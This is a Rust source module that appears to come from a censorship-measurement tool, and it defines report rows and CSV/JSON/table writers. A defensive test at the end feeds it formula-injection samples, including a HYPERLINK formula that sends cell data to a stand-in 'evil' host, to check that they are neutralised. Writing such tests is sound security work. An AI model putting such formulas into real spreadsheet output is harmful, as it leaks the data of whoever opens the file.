//! Report rows and the writers that stream them. `Record::new` is the only conversion from a
//! finding to the report shape; CSV and JSON share its column names (CSV flattens lists with
//! `;`, JSON keeps them as arrays and adds the nested `evidence`).

use std::io::{self, Write};
use std::net::IpAddr;
use std::time::Duration;

use serde::Serialize;

use crate::classify::{Evidence, Finding};
use crate::probe::path::PathObservation;
use crate::resolver_spec::Vantage;
use crate::target::Target;
use crate::verdict::{Layer, Reason, Verdict};

pub mod html;
pub mod summary;

/// Version of the report schema documented in `docs/report-schema.md`.
pub const SCHEMA_VERSION: u32 = 8;

/// The flat columns, in order (CSV header; JSON key order before `evidence`).
pub const COLUMNS: &[&str] = &[
    "run_id",
    "started_at",
    "tool_version",
    "regime",
    "vantage",
    "public_ip",
    "asn",
    "as_org",
    "country",
    "target",
    "category",
    "kind",
    "host",
    "port",
    "resolver",
    "resolver_spec",
    "verdict",
    "layer",
    "reason",
    "detail",
    "needs",
    "probes",
    "dns_transport",
    "dns_rcode",
    "dns_error",
    "dns_answers",
    "dns_cnames",
    "dns_injected_answers",
    "dns_elapsed_ms",
    "control_rcode",
    "control_answers",
    "resolver_healthy",
    "tcp_connected",
    "tcp_error",
    "tls_version",
    "tls_verified",
    "tls_error",
    "tls_decoy_ok",
    "http_status",
    "http_title",
    "blockpage_fingerprint",
    "redirects",
    "bytes",
    "throughput_bps",
    "stalled_at",
    "stalled_at_wire",
    "control_path_status",
    "control_throughput_bps",
    "baseline",
    "baseline_bps",
    "tries",
    "elapsed_ms",
];

/// Identity of a run, carried by every record.
#[derive(Clone, Debug, Serialize)]
pub struct RunMeta {
    pub run_id: String,
    pub started_at: String,
    pub tool_version: String,
    pub resolvers: Vec<SpecEntry>,
    pub control_resolvers: Vec<SpecEntry>,
    pub probes: Vec<String>,
    /// Where the run measured from: `--vantage NAME`, else the host name (a fleet's records
    /// are told apart by it).
    pub vantage: String,
    /// The probe's public address, when `--public-ip-stun` asked a STUN server for it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub public_ip: Option<IpAddr>,
    /// The public address's network from `--asn-db` (`asn`, `as_org`, `country`; empty fields
    /// left out).
    #[serde(flatten)]
    pub network: crate::asn::Network,
    /// Each canary name's outcome at every vantage and control resolver (the health check).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub canaries: Vec<CanaryCheck>,
    /// The network-regime check (`unknown` with no probes when it did not run).
    pub regime: crate::regime::RegimeCheck,
}

/// One canary lookup of the start-of-run health check.
#[derive(Clone, Debug, Serialize)]
pub struct CanaryCheck {
    pub name: String,
    pub resolver: String,
    /// `vantage` or `control`.
    pub role: &'static str,
    pub answers: Vec<IpAddr>,
    pub rcode: Option<String>,
    pub error: Option<&'static str>,
}

#[derive(Clone, Debug, Serialize)]
pub struct SpecEntry {
    pub name: String,
    pub spec: String,
}

impl From<&Vantage> for SpecEntry {
    fn from(v: &Vantage) -> Self {
        Self {
            name: v.name.clone(),
            spec: v.spec.to_string(),
        }
    }
}

fn ms(d: Duration) -> f64 {
    (d.as_secs_f64() * 1_000_000.0).round() / 1000.0
}

/// One report row: one (target, vantage resolver) pair.
#[derive(Clone, Debug, Serialize)]
pub struct Record {
    pub run_id: String,
    pub started_at: String,
    pub tool_version: String,
    /// The run's network regime (`open`, `whitelist`, `offline`, `unknown`).
    pub regime: &'static str,
    /// The run's vantage label (`--vantage`, else the host name).
    pub vantage: String,
    /// The probe's public address (`--public-ip-stun`, `--public-ip`), else null.
    pub public_ip: Option<IpAddr>,
    /// The public address's autonomous system (`--asn-db`), else null.
    pub asn: Option<u32>,
    /// That autonomous system's name (`--asn-db`), else null.
    pub as_org: Option<String>,
    /// The public address's country, ISO 3166-1 alpha-2 (`--asn-db`), else null.
    pub country: Option<String>,
    pub target: String,
    pub category: Option<String>,
    pub kind: &'static str,
    pub host: String,
    pub port: u16,
    pub resolver: String,
    pub resolver_spec: String,
    pub verdict: Verdict,
    pub layer: Option<Layer>,
    pub reason: Option<Reason>,
    pub detail: String,
    /// For `inconclusive`: the evidence that would decide it (`control_path`, `reference`,
    /// `control_resolver`).
    pub needs: Option<crate::classify::Needs>,
    /// The probe steps that ran for this record (`dns`, `tcp`, `tls`, `http`, `udp`): a
    /// `reachable` from `--probes dns` means "no DNS interference", not "the site works".
    pub probes: Vec<&'static str>,
    pub dns_transport: Option<&'static str>,
    pub dns_rcode: Option<String>,
    pub dns_error: Option<&'static str>,
    pub dns_answers: Vec<IpAddr>,
    pub dns_cnames: Vec<String>,
    pub dns_injected_answers: Option<Vec<IpAddr>>,
    pub dns_elapsed_ms: Option<f64>,
    pub control_rcode: Option<String>,
    pub control_answers: Vec<IpAddr>,
    pub resolver_healthy: bool,
    pub tcp_connected: Option<String>,
    pub tcp_error: Option<&'static str>,
    pub tls_version: Option<String>,
    pub tls_verified: Option<bool>,
    pub tls_error: Option<&'static str>,
    pub tls_decoy_ok: Option<bool>,
    pub http_status: Option<u16>,
    pub http_title: Option<String>,
    /// The block-page fingerprint matched (id, source, country, where); CSV shows the id.
    pub blockpage_fingerprint: Option<crate::blockpage::Match>,
    pub redirects: Option<usize>,
    pub bytes: Option<u64>,
    pub throughput_bps: Option<f64>,
    pub stalled_at: Option<u64>,
    /// Bytes received on the wire (handshake included) before the stall.
    pub stalled_at_wire: Option<u64>,
    pub control_path_status: Option<String>,
    pub control_throughput_bps: Option<f64>,
    /// What a transfer's rate was compared with: `control_path`, `reference:URL` or `run`.
    pub baseline: Option<String>,
    pub baseline_bps: Option<f64>,
    pub tries: Vec<String>,
    pub elapsed_ms: f64,
    pub evidence: Evidence,
}

/// The probe steps that ran, read from the evidence (what was done, not what was asked).
fn steps(ev: &Evidence) -> Vec<&'static str> {
    let mut out = Vec::with_capacity(4);
    if ev.dns.is_some() {
        out.push("dns");
    }
    if let Some(c) = &ev.conn {
        c.steps(&mut out);
    }
    out
}

/// The flat view of one path: the first hop's connection, the last hop's response.
#[derive(Default)]
struct PathColumns {
    tcp_connected: Option<String>,
    tcp_error: Option<&'static str>,
    tls_version: Option<String>,
    tls_verified: Option<bool>,
    tls_error: Option<&'static str>,
    tls_decoy_ok: Option<bool>,
    http_status: Option<u16>,
    http_title: Option<String>,
    redirects: Option<usize>,
    bytes: Option<u64>,
    throughput_bps: Option<f64>,
    stalled_at: Option<u64>,
    stalled_at_wire: Option<u64>,
    /// The final status, or the failure kind of the step that failed.
    outcome: Option<String>,
}

impl PathColumns {
    fn of(p: &PathObservation) -> Self {
        let mut c = Self {
            redirects: Some(p.hops.len().saturating_sub(1)),
            ..Self::default()
        };
        let Some(last) = p.hops.last() else { return c };
        c.tcp_connected = last.tcp.iter().find(|t| t.ok).map(|t| t.addr.to_string());
        if c.tcp_connected.is_none() {
            c.tcp_error = last
                .tcp
                .iter()
                .find_map(|t| t.failure.as_ref().map(|f| f.kind.as_str()));
            c.outcome = c.tcp_error.map(|k| format!("tcp:{k}"));
        }
        if let Some(tls) = &last.tls {
            c.tls_version = tls.version.clone();
            c.tls_verified = tls.verified;
            c.tls_error = tls.failure.as_ref().map(|f| f.kind.as_str());
            if let Some(k) = c.tls_error {
                c.outcome = Some(format!("tls:{k}"));
            }
        }
        c.tls_decoy_ok = last.decoy_tls.as_ref().map(|d| d.ok);
        if let Some(h) = &last.http {
            c.http_status = h.status;
            c.http_title = h.title.clone();
            c.bytes = Some(h.transfer.bytes);
            c.throughput_bps = h.transfer.throughput_bps;
            c.stalled_at = h.transfer.stalled_at;
            c.stalled_at_wire = h.transfer.stalled_at.map(|_| last.wire_bytes_in);
            c.outcome = match (h.status, &h.failure, h.transfer.stalled_at) {
                (_, _, Some(at)) => Some(format!("stall:{at}")),
                (None, Some(f), _) => Some(format!("http:{}", f.kind.as_str())),
                (Some(s), _, _) => Some(s.to_string()),
                (None, None, _) => None,
            };
        } else if c.outcome.is_none() && c.tcp_connected.is_some() {
            c.outcome = Some("connected".into());
        }
        c
    }
}

impl Record {
    pub fn new(
        meta: &RunMeta,
        target: &Target,
        vantage: &Vantage,
        finding: Finding,
        elapsed: Duration,
    ) -> Self {
        let Finding {
            verdict,
            reason,
            detail,
            blockpage,
            baseline,
            needs,
            evidence,
        } = finding;
        let probes = steps(&evidence);
        let dns = evidence.dns.as_ref();
        let control = evidence.control.as_ref();
        let direct = evidence.direct().map(PathColumns::of).unwrap_or_default();
        let ctl_path = evidence.control_path().map(PathColumns::of);
        Self {
            run_id: meta.run_id.clone(),
            started_at: meta.started_at.clone(),
            tool_version: meta.tool_version.clone(),
            regime: meta.regime.regime.as_str(),
            vantage: meta.vantage.clone(),
            public_ip: meta.public_ip,
            asn: meta.network.asn,
            as_org: meta.network.as_org.clone(),
            country: meta.network.country.clone(),
            target: target.input.clone(),
            category: target.category.clone(),
            kind: target.kind.as_str(),
            host: target.host.to_string(),
            port: target.port,
            resolver: vantage.name.clone(),
            resolver_spec: vantage.spec.to_string(),
            verdict,
            layer: reason.map(Reason::layer),
            reason,
            // Under a whitelist, a failure is the allow-list's, not a targeted block.
            detail: if meta.regime.regime == crate::regime::Regime::Whitelist
                && verdict != Verdict::Reachable
            {
                format!(
                    "{detail} [whitelist regime: only allow-listed destinations work on this network now]"
                )
            } else {
                detail
            },
            needs,
            probes,
            dns_transport: dns.map(|d| d.transport),
            dns_rcode: dns.and_then(|d| d.rcode().map(|r| r.to_string())),
            dns_error: dns.and_then(|d| d.failure().map(|f| f.kind.as_str())),
            dns_answers: dns
                .map(|d| d.addresses().into_iter().collect())
                .unwrap_or_default(),
            dns_cnames: dns.map(|d| d.cnames()).unwrap_or_default(),
            dns_injected_answers: dns
                .and_then(|d| d.injected_addresses())
                .map(|s| s.into_iter().collect()),
            dns_elapsed_ms: dns.map(|d| ms(d.elapsed)),
            control_rcode: control.and_then(|c| {
                c.resolvers
                    .iter()
                    .find_map(|r| r.dns.rcode().map(|r| r.to_string()))
            }),
            control_answers: control
                .map(|c| c.addresses().into_iter().collect())
                .unwrap_or_default(),
            resolver_healthy: evidence.resolver_healthy,
            tcp_connected: direct.tcp_connected,
            tcp_error: direct.tcp_error,
            tls_version: direct.tls_version,
            tls_verified: direct.tls_verified,
            tls_error: direct.tls_error,
            tls_decoy_ok: direct.tls_decoy_ok,
            http_status: direct.http_status,
            http_title: direct.http_title,
            blockpage_fingerprint: blockpage,
            redirects: direct.redirects,
            bytes: direct.bytes,
            throughput_bps: direct.throughput_bps,
            stalled_at: direct.stalled_at,
            stalled_at_wire: direct.stalled_at_wire,
            control_path_status: ctl_path.as_ref().and_then(|c| c.outcome.clone()),
            control_throughput_bps: ctl_path.and_then(|c| c.throughput_bps),
            baseline: baseline.as_ref().map(|b| b.source.clone()),
            baseline_bps: baseline.and_then(|b| b.bps),
            tries: evidence.tries.iter().map(ToString::to_string).collect(),
            elapsed_ms: ms(elapsed),
            evidence,
        }
    }

    /// The CSV row, in [`COLUMNS`] order.
    pub fn csv_row(&self) -> Vec<String> {
        fn list<T: ToString>(v: &[T]) -> String {
            v.iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join(";")
        }
        fn opt<T: ToString>(v: Option<T>) -> String {
            v.map(|x| x.to_string()).unwrap_or_default()
        }
        vec![
            self.run_id.clone(),
            self.started_at.clone(),
            self.tool_version.clone(),
            self.regime.to_owned(),
            self.vantage.clone(),
            opt(self.public_ip),
            opt(self.asn),
            opt(self.as_org.as_ref()),
            opt(self.country.as_ref()),
            self.target.clone(),
            opt(self.category.as_ref()),
            self.kind.to_owned(),
            self.host.clone(),
            self.port.to_string(),
            self.resolver.clone(),
            self.resolver_spec.clone(),
            self.verdict.as_str().to_owned(),
            opt(self.layer.map(Layer::as_str)),
            opt(self.reason.map(Reason::as_str)),
            self.detail.clone(),
            opt(self.needs.map(crate::classify::Needs::as_str)),
            list(&self.probes),
            opt(self.dns_transport),
            opt(self.dns_rcode.as_ref()),
            opt(self.dns_error),
            list(&self.dns_answers),
            list(&self.dns_cnames),
            opt(self.dns_injected_answers.as_deref().map(list)),
            opt(self.dns_elapsed_ms),
            opt(self.control_rcode.as_ref()),
            list(&self.control_answers),
            self.resolver_healthy.to_string(),
            opt(self.tcp_connected.as_ref()),
            opt(self.tcp_error),
            opt(self.tls_version.as_ref()),
            opt(self.tls_verified),
            opt(self.tls_error),
            opt(self.tls_decoy_ok),
            opt(self.http_status),
            opt(self.http_title.as_ref()),
            opt(self.blockpage_fingerprint.as_ref().map(|m| &m.id)),
            opt(self.redirects),
            opt(self.bytes),
            opt(self.throughput_bps),
            opt(self.stalled_at),
            opt(self.stalled_at_wire),
            opt(self.control_path_status.as_ref()),
            opt(self.control_throughput_bps),
            opt(self.baseline.as_ref()),
            opt(self.baseline_bps),
            list(&self.tries),
            self.elapsed_ms.to_string(),
        ]
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Csv,
    Json,
    Jsonl,
    /// One readable line per result, for people (the default on a terminal).
    Table,
}

impl Format {
    /// The format implied by an output file name, if any.
    pub fn from_path(path: &std::path::Path) -> Option<Self> {
        match path.extension()?.to_str()?.to_ascii_lowercase().as_str() {
            "csv" => Some(Self::Csv),
            "json" => Some(Self::Json),
            "jsonl" | "ndjson" => Some(Self::Jsonl),
            "txt" => Some(Self::Table),
            _ => None,
        }
    }
}

/// How a run ended, written at the end of a JSON document.
#[derive(Clone, Debug, Serialize)]
pub struct RunEnd {
    pub finished_at: String,
    pub interrupted: bool,
    pub records: u64,
}

/// A streaming writer: records are written as they arrive and flushed whenever the scan waits
/// for the next one (and at least every 100 ms while they pour in), so a killed run keeps every
/// record finished more than 100 ms earlier, and memory does not grow with the run.
pub enum Sink<W: Write> {
    Csv(Box<csv::Writer<W>>),
    Json {
        out: W,
        first: bool,
    },
    Jsonl(W),
    /// For people: coloured by verdict on a terminal (`NO_COLOR` respected), each line as wide
    /// as the terminal.
    Table {
        out: W,
        style: TableStyle,
    },
}

/// How a table sink draws its lines.
#[derive(Clone, Copy, Debug, Default)]
pub struct TableStyle {
    /// ANSI colours by verdict.
    pub color: bool,
    /// Characters per line at most (the terminal's width); `None`: no limit.
    pub width: Option<usize>,
}

impl TableStyle {
    /// Colours and width for standard output, when it is a terminal.
    pub fn for_stdout() -> Self {
        let term = console::Term::stdout();
        if !term.is_term() {
            return Self::default();
        }
        Self {
            color: std::env::var_os("NO_COLOR").is_none_or(|v| v.is_empty()),
            width: term.size_checked().map(|(_, w)| usize::from(w)),
        }
    }
}

/// One result as a table line: verdict, reason, resolver, target, detail.
pub fn table_line(rec: &Record, style: TableStyle) -> String {
    let verdict = rec.verdict.as_str();
    let reason = rec.reason.map_or("-", Reason::as_str);
    let head = format!(
        "{verdict:<12} {reason:<20} {:<8} {}",
        rec.resolver, rec.target
    );
    // Control characters from a target or a server's words never reach the terminal raw.
    let mut line = crate::diag::printable(&format!("{head}  {}", rec.detail)).into_owned();
    if let Some(w) = style.width
        && line.chars().count() > w
    {
        line = line
            .chars()
            .take(w.saturating_sub(1).max(head.len()))
            .collect();
        line.push('…');
    }
    if style.color {
        let code = match rec.verdict {
            Verdict::Reachable => "32",
            Verdict::Blocked => "1;31",
            Verdict::Throttled => "33",
            Verdict::Down => "90",
            Verdict::Inconclusive => "2",
        };
        line = format!(
            "\x1b[{code}m{verdict:<12}\x1b[0m{}",
            &line[verdict.len().max(12)..]
        );
    }
    line
}

/// One record as a JSON line, serialised into a reused buffer and written at once: serde
/// writes a record in hundreds of small pieces, each a call into the output's buffer.
fn json_line(rec: &Record, comma: bool, out: &mut impl Write) -> io::Result<()> {
    thread_local! {
        static LINE: std::cell::RefCell<Vec<u8>> = const { std::cell::RefCell::new(Vec::new()) };
    }
    LINE.with_borrow_mut(|line| {
        line.clear();
        if comma {
            line.push(b',');
        }
        serde_json::to_writer(&mut *line, rec)?;
        line.push(b'\n');
        let r = out.write_all(line);
        // A huge record's buffer is not kept.
        if line.capacity() > 1 << 20 {
            *line = Vec::new();
        }
        r
    })
}

impl<W: Write> Sink<W> {
    pub fn begin(format: Format, mut out: W, meta: &RunMeta) -> io::Result<Self> {
        Ok(match format {
            Format::Csv => {
                let mut w = csv::Writer::from_writer(out);
                w.write_record(COLUMNS)?;
                w.flush()?;
                Self::Csv(Box::new(w))
            }
            Format::Json => {
                write!(out, "{{\"schema_version\":{SCHEMA_VERSION},\"run\":")?;
                serde_json::to_writer(&mut out, meta)?;
                out.write_all(b",\"records\":[\n")?;
                out.flush()?;
                Self::Json { out, first: true }
            }
            Format::Jsonl => Self::Jsonl(out),
            Format::Table => Self::Table {
                out,
                style: TableStyle::default(),
            },
        })
    }

    /// Draws a table for standard output (colours and width when it is a terminal).
    pub fn for_stdout(mut self) -> Self {
        if let Self::Table { style, .. } = &mut self {
            *style = TableStyle::for_stdout();
        }
        self
    }

    /// A table shown on a terminal: each line is flushed at once, around the progress bar.
    pub fn is_live(&self) -> bool {
        matches!(self, Self::Table { style, .. } if style.color || style.width.is_some())
    }

    /// Writes one record; it reaches the file at the next [`flush`](Self::flush) (the scan
    /// flushes whenever it waits for a job, and at least every 100 ms).
    pub fn write(&mut self, rec: &Record) -> io::Result<()> {
        match self {
            Self::Csv(w) => {
                w.write_record(rec.csv_row().iter().map(|c| csv_safe(c).into_owned()))?;
                Ok(())
            }
            Self::Json { out, first } => {
                // One record per line, comma first, so every flushed line is complete.
                let comma = !std::mem::take(first);
                json_line(rec, comma, out)
            }
            Self::Jsonl(out) => json_line(rec, false, out),
            Self::Table { out, style } => writeln!(out, "{}", table_line(rec, *style)),
        }
    }

    pub fn flush(&mut self) -> io::Result<()> {
        match self {
            Self::Csv(w) => w.flush(),
            Self::Json { out, .. } | Self::Jsonl(out) | Self::Table { out, .. } => out.flush(),
        }
    }

    /// Completes the document (JSON needs its closing brackets, also after an interrupt).
    pub fn finish(self, end: &RunEnd) -> io::Result<()> {
        match self {
            Self::Csv(mut w) => w.flush(),
            Self::Json { mut out, .. } => {
                out.write_all(b"],\"end\":")?;
                serde_json::to_writer(&mut out, end)?;
                out.write_all(b"}\n")?;
                out.flush()
            }
            Self::Jsonl(mut out) | Self::Table { mut out, .. } => out.flush(),
        }
    }
}

/// A CSV cell that a spreadsheet will not run as a formula. Server-controlled text (a page
/// title, a target, a category) starting with `=`, `+`, `-`, `@`, a tab or a carriage return
/// (after any leading spaces) gets a leading `'`, the convention spreadsheets read as "text";
/// numbers (`-1.5`) stay as they are. JSON output is never altered (docs/report-schema.md).
pub fn csv_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell
        .trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
        || cell.starts_with(['\t', '\r']);
    if risky && cell.trim().parse::<f64>().is_err() {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

pub use crate::diag::warn;

#[cfg(test)]
mod tests {
    use super::csv_safe;

    /// Issue 11, item 13: CSV formula injection.
    #[test]
    fn issue_11_csv_cells_never_start_a_formula() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://evil\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil\"&A1,\"x\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "'\t=1+1"),
            ("  =1", "'  =1"),
            ("\r=1", "'\r=1"),
            ("-1.5", "-1.5"),
            ("+7", "+7"),
            ("Роскомнадзор", "Роскомнадзор"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_safe(cell), want, "{cell:?}");
        }
    }
}
